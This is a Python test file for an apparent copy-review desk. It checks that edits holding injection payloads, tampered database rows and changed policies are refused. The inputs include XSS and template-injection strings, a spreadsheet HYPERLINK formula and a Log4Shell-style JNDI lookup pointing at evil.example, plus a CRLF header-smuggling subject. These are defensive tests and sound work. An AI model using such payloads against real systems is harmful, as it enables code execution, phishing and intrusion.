"""Ways to get a decision that nobody had the right to: each is refused, and each is on record."""

from typing import Any

import pytest
from sqlalchemy import update

from presscheck.desk import CurrentPolicies
from presscheck.digests import canonical
from presscheck.ledger import tables
from presscheck.ledger.assets import get_asset
from presscheck.models import CallToAction, Decision, Proposal, Refused
from tests.desk.scene import BRIEF, Ledgers, Scene, draft, policy_folder
from tests.places import place_of
from tests.press.stand import Stand


@pytest.fixture
def scene(sqlite_ledgers: Ledgers) -> Scene:
    return Scene(sqlite_ledgers)


@pytest.mark.parametrize(
    "text",
    [
        "A jacket for wet hills {{ 7 * 7 }}",
        "A jacket for {% raw %} wet hills",
        "A jacket <script>alert(1)</script>",
        "A jacket <img src=x onerror=alert(1)>",
        '=HYPERLINK("https://evil.example","A jacket")',
        "A jacket ${jndi:ldap://evil.example/a}",
    ],
)
def test_markup_templates_and_formulas_in_an_edit_are_refused(scene: Scene, text: str) -> None:
    refused = scene.answer(edits=[{"pick": "V01", "field": "subject", "text": text}])

    assert isinstance(refused, Refused)
    assert refused.code == "guardrail"
    assert scene.kinds("decision:") == []
    assert scene.refusals() == [{"person": "P-ana", "code": "guardrail"}]


def test_templates_in_a_note_are_kept_as_they_were_written(scene: Scene) -> None:
    scene.answer(decision="Request changes", reason="voice", note="Say {{7*7}} less.\x1b[31m\u202e")

    with scene.ledgers.worker.read() as tx:
        assert scene.desk.outcome(tx, scene.review.id).note == "Say {{7*7}} less.[31m"


def test_a_line_end_smuggled_into_a_subject_makes_no_header(sqlite_ledgers: Ledgers) -> None:
    stand = Stand(Scene(sqlite_ledgers))
    smuggled = "A jacket for the hills\r\nReply-To: somebody\r\n\r\nHello"

    stand.approve_and_request(picks=["V01"], edits=[{"pick": "V01", "field": "subject", "text": smuggled}])
    stand.press.step()

    for mail in stand.mails():
        assert mail["Subject"] == "A jacket for the hills Reply-To: somebody Hello"
        assert mail["Reply-To"] is None
    assert len(stand.mails()) == 7


def test_an_edit_that_adds_another_link_is_refused(scene: Scene) -> None:
    body = draft(0).body + "\n\nOr look at https://evil.example/fell instead."

    refused = scene.answer(edits=[{"pick": "V01", "field": "body", "text": body}])

    assert isinstance(refused, Refused)
    assert refused.code == "guardrail"


def test_a_draft_that_leads_elsewhere_is_refused_though_it_is_unedited(sqlite_ledgers: Ledgers) -> None:
    elsewhere = CallToAction(label="See the jacket", url="https://evil.example/fell")
    scene = Scene(sqlite_ledgers, drafts=[draft(0).model_copy(update={"call_to_action": elsewhere})])

    refused = scene.answer(picks=["V01"])

    assert isinstance(refused, Refused)
    assert refused.code == "guardrail"


def test_a_question_with_another_sender_than_the_briefs_is_refused(sqlite_ledgers: Ledgers) -> None:
    sender = BRIEF.sender.model_copy(update={"address": "news@evil.example"})

    refused = Scene(sqlite_ledgers, sender=sender).answer()

    assert isinstance(refused, Refused)
    assert refused.code == "broken-question"


def test_two_choices_with_one_code_are_refused(sqlite_ledgers: Ledgers) -> None:
    scene = Scene(sqlite_ledgers)
    twice = tuple(Proposal(code="V01", asset=asset.digest) for asset in scene.assets[:2])

    refused = Scene(sqlite_ledgers, run="run-2", people=False, proposals=twice).answer(picks=["V01"])

    assert isinstance(refused, Refused)
    assert refused.code == "broken-question"


def test_a_question_altered_in_the_database_is_not_answered(scene: Scene) -> None:
    altered = scene.question.model_copy(update={"audience_rows": 70_000}).model_dump(mode="json")
    _sql(scene, update(tables.reviews).values(question=canonical(altered).decode()))

    refused = scene.answer()

    assert isinstance(refused, Refused)
    assert refused.code == "forged"
    assert scene.kinds("decision:") == []


def test_a_draft_altered_in_the_database_is_not_answered(scene: Scene) -> None:
    asset = scene.assets[3]
    text = canonical(asset.content).decode().replace("keeps", "KEEPS")
    _sql(scene, update(tables.assets).where(tables.assets.c.digest == asset.digest).values(content=text))

    refused = scene.answer(picks=["V01"])

    assert isinstance(refused, Refused)
    assert refused.code == "forged"


@pytest.mark.slow
@pytest.mark.parametrize("change", ["edited", "added"])
def test_a_policy_that_changes_while_a_question_waits_refuses_the_answer(
    sqlite_ledgers: Ledgers, tmp_path: Any, change: str
) -> None:
    folder = policy_folder(tmp_path)
    scene = Scene(sqlite_ledgers, policies=CurrentPolicies(folder))
    shouting = folder / place_of("no-shouting")
    if change == "edited":
        shouting.write_text(shouting.read_text().replace("owner: brand", "owner: legal"))
    else:
        text = shouting.read_text().replace("id: brand.no-shouting", "id: brand.no-loudness")
        shouting.with_name("no-loudness.yaml").write_text(text)

    refused = scene.answer()

    assert isinstance(refused, Refused)
    assert refused.code == "policies-changed"
    assert f"was {'changed' if change == 'edited' else 'added'}" in refused.reason


def test_an_answer_to_a_review_that_nobody_opened_is_refused(scene: Scene) -> None:
    refused = scene.desk.apply("R-000000000000", person="P-ana", raw=scene.raw())

    assert isinstance(refused, Refused)
    assert refused.code == "no-review"


def test_an_edit_equal_to_another_draft_is_still_the_editors(sqlite_ledgers: Ledgers) -> None:
    scene = Scene(sqlite_ledgers)
    other = scene.assets[1].copy_text
    edits = [{"pick": "V01", "field": name, "text": getattr(other, name)} for name in ("subject", "body")]

    decision = scene.answer(picks=["V01"], edits=edits)

    assert isinstance(decision, Decision)
    assert decision.manifest is not None
    with sqlite_ledgers.door.read() as tx:
        assert get_asset(tx, decision.manifest.assets[0]).copy_text == other
    assert decision.own_edits


def test_refusals_hold_no_personal_data_in_the_chain(scene: Scene) -> None:
    scene.answer("ben")
    scene.answer("uma", picks=[])

    with scene.ledgers.door.read() as tx:
        bodies = " ".join(event.body for event in tx.events())
    assert "@" not in bodies.replace("prompts@", "")
    assert '"ben"' not in bodies


def _sql(scene: Scene, statement: Any) -> None:
    engine = scene.ledgers.door.engine
    with engine.connect().execution_options(presscheck_write=True) as connection, connection.begin():
        connection.execute(statement)
